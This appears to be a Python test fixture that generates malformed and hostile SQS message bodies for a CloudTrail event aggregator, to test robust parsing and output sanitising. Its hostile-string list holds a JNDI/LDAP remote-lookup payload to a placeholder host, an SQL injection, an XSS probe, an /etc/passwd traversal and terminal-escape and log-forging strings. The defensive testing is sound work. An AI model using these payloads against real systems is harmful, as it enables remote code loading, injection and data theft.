"""Generated malformed and hostile SQS message bodies, each labelled with what the aggregator must do with it.

- ``malformed``: cannot be a counted event (not JSON, not an envelope, a required field of the wrong type,
  an unreadable time): it is never counted; it is reported failed with a reason, or (an ``eventName`` or
  ``eventSource`` that is not a string) simply does not match the rule, as EventBridge's pattern would not.
- ``either``: odd but possibly readable (a wrong type in an optional field): reported with a reason, or
  counted; never an unhandled error.
- ``hostile``: a well-formed event carrying attacker-controlled strings (control characters, terminal
  escapes, log-forging newlines, bidi overrides, injection payloads, huge values): it must
  be counted, and its finding must be valid ASFF with every string made safe.
- lone UTF-16 surrogates (``LONE_SURROGATES``) are hostile strings too; ``test_lone_surrogates_are_counted_or_reported``
  also checks each field on its own (they made a record unwritable until the core escaped them).
- ``good``: ordinary events from users named ``good-*``, whose windows must be unaffected by the rest.
"""

from __future__ import annotations

import copy
import json
import random
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from tests.support.cloudtrail import code_update, envelope

HOSTILE_STRINGS = (
    "\x00NUL\x00inside",
    'line one\nFAKE log line {"level":"ERROR"}\r\nanother',
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 terminal escapes",
    "C1 controls \x85 \x9b31m \x9d",
    "DEL\x7f and tab\tand bell\x07",
    "bidi \u202eevil\u202c and isolates \u2066x\u2069",
    "zero width \u200b\u200d joiner",
    "separators \u2028 line \u2029 paragraph",
    "${jndi:ldap://203.0.113.1/a}",
    "'; DROP TABLE windows; --",
    "<script>alert(1)</script>",
    "{{7*7}} %s %n %x",
    "../../../../etc/passwd",
    "emoji 🦀 and CJK 漢字 and RTL שלום",
    "\\u0000 escaped-looking but literal \\n",
    "x" * 100_000,
    "\x1b" * 5_000,
    "🦀" * 20_000,
)
# JSON may escape a lone UTF-16 surrogate (``"\ud800"``); Python decodes it to a str no UTF-8 codec accepts.
LONE_SURROGATES = ("lone surrogates \ud800 \udfff", "\udc80" * 3, "high \udbff then text")
# The principals of events made unreadable on purpose: no window may ever name one.
MALFORMED_USERS = "arn:aws:iam::123456789012:user/malformed-"
WRONG_TYPES: tuple[Any, ...] = (None, 0, -1, 1.5e308, True, [], ["a"], {}, {"a": 1}, "")


@dataclass(frozen=True, slots=True)
class Case:
    body: str
    expect: str  # malformed | either | hostile | good
    label: str


def _body(detail: Any, **envelope_changes: Any) -> str:
    wrapped = envelope(code_update())
    wrapped["detail"] = detail
    wrapped.update(envelope_changes)
    return json.dumps(wrapped)


def _event(rng: random.Random, n: int, **changes: Any) -> dict[str, Any]:
    return code_update(
        event_id=f"hostile-{n:06d}",
        event_time=f"2026-11-30T{rng.randrange(9, 12):02d}:{rng.randrange(60):02d}:{rng.randrange(60):02d}Z",
        **changes,
    )


def _set_path(record: dict[str, Any], path: tuple[str, ...], value: Any) -> dict[str, Any]:
    changed = copy.deepcopy(record)
    target = changed
    for part in path[:-1]:
        if not isinstance(target.get(part), dict):
            target[part] = {}
        target = target[part]
    target[path[-1]] = value
    return changed


def _drop_path(record: dict[str, Any], path: tuple[str, ...]) -> dict[str, Any]:
    changed = copy.deepcopy(record)
    target = changed
    for part in path[:-1]:
        target = target.get(part) or {}
    if isinstance(target, dict):
        target.pop(path[-1], None)
    return changed


# Fields whose wrong type makes the record unreadable (the rule or the key cannot be evaluated)...
REQUIRED = (("eventName",), ("eventSource",), ("eventTime",))
# ...and fields that may be absent or odd: the event is still counted, or refused with a reason.
OPTIONAL = (
    ("eventID",),
    ("errorCode",),
    ("userIdentity",),
    ("userIdentity", "type"),
    ("userIdentity", "arn"),
    ("userIdentity", "accountId"),
    ("userIdentity", "sessionContext"),
    ("sourceIPAddress",),
    ("userAgent",),
    ("recipientAccountId",),
    ("requestParameters",),
    ("requestParameters", "functionName"),
    ("responseElements",),
    ("responseElements", "functionArn"),
    ("responseElements", "codeSha256"),
    ("awsRegion",),
)


def generate(count: int, seed: int) -> list[Case]:
    rng = random.Random(seed)
    makers: list[Callable[[int], Case]] = []

    def not_json(n: int) -> Case:
        body = rng.choice(
            [
                "",
                "not json {",
                '{"detail": ',
                "\x00\x01\x02",
                '{"a": "\\x41"}',  # invalid JSON escape
                '{"a": "\\u12"}',
                "{" * rng.randrange(1, 50),
                "NaN]",
            ]
        )
        return Case(body, "malformed", "not JSON")

    def deep_nesting(n: int) -> Case:
        depth = rng.choice([2_000, 50_000, 200_000])
        return Case('{"detail": ' + "[" * depth + "]" * depth + "}", "malformed", f"nesting {depth}")

    def not_an_envelope(n: int) -> Case:
        body = rng.choice(["[]", "1", '"text"', "true", "null", json.dumps({"hello": "world"}), '{"Detail": {}}'])
        return Case(body, "malformed", "not an envelope")

    def detail_not_object(n: int) -> Case:
        return Case(_body(rng.choice(WRONG_TYPES[:9])), "malformed", "detail not an object")

    def required_wrong(n: int) -> Case:
        path = rng.choice(REQUIRED)
        value = rng.choice([v for v in WRONG_TYPES if not isinstance(v, str)] + ["yesterday", "2026-13-45T99:99:99Z"])
        if path != ("eventTime",) and isinstance(value, str):
            value = 7
        record = _event(rng, n, user_arn=f"{MALFORMED_USERS}{n % 3}")
        record = _set_path(record, path, value) if rng.random() < 0.8 else _drop_path(record, path)
        return Case(_body(record), "malformed", f"{'.'.join(path)} wrong")

    def optional_odd(n: int) -> Case:
        path = rng.choice(OPTIONAL)
        if rng.random() < 0.3:
            record = _drop_path(_event(rng, n, user_arn=f"arn:aws:iam::123456789012:user/odd-{n % 7}"), path)
        else:
            value = rng.choice([*WRONG_TYPES, rng.choice(HOSTILE_STRINGS + LONE_SURROGATES)])
            record = _set_path(_event(rng, n, user_arn=f"arn:aws:iam::123456789012:user/odd-{n % 7}"), path, value)
        return Case(_body(record), "either", f"{'.'.join(path)} odd")

    def deep_but_valid(n: int) -> Case:
        nested: Any = "bottom"
        for _ in range(rng.randrange(50, 400)):
            nested = {"n": nested}
        record = _set_path(
            _event(rng, n, user_arn="arn:aws:iam::123456789012:user/deep"), ("requestParameters", "x"), nested
        )
        return Case(_body(record), "hostile", "deep optional field")

    def hostile(n: int) -> Case:
        text = rng.choice(HOSTILE_STRINGS + LONE_SURROGATES)
        field = rng.choice(["user_agent", "function", "user_arn", "src_ip", "event_id"])
        if field == "user_arn":
            text = "arn:aws:iam::123456789012:user/" + text
        if field == "event_id":
            record = _event(rng, n, user_arn="arn:aws:iam::123456789012:user/hostile")
            record["eventID"] = text + str(n)
        else:
            record = _event(rng, n, **{field: text})
            if field != "user_arn":
                record = _set_path(record, ("userIdentity", "arn"), "arn:aws:iam::123456789012:user/hostile")
        return Case(_body(record), "hostile", f"hostile {field}")

    def good(n: int) -> Case:
        record = _event(rng, n, user_arn=f"arn:aws:iam::123456789012:user/good-{n % 5}", function=f"fn-{n % 11}")
        return Case(_body(record), "good", "good")

    makers = [not_json, deep_nesting, not_an_envelope, detail_not_object, required_wrong, optional_odd]
    weights = [14, 2, 10, 10, 34, 30]
    cases: list[Case] = []
    for n in range(count):
        roll = rng.random()
        if roll < 0.08:
            cases.append(good(n))
        elif roll < 0.14:
            cases.append(hostile(n))
        elif roll < 0.15:
            cases.append(deep_but_valid(n))
        else:
            cases.append(rng.choices(makers, weights)[0](n))
    return cases


def good_records(cases: list[Case]) -> list[dict[str, Any]]:
    return [json.loads(case.body)["detail"] for case in cases if case.expect == "good"]
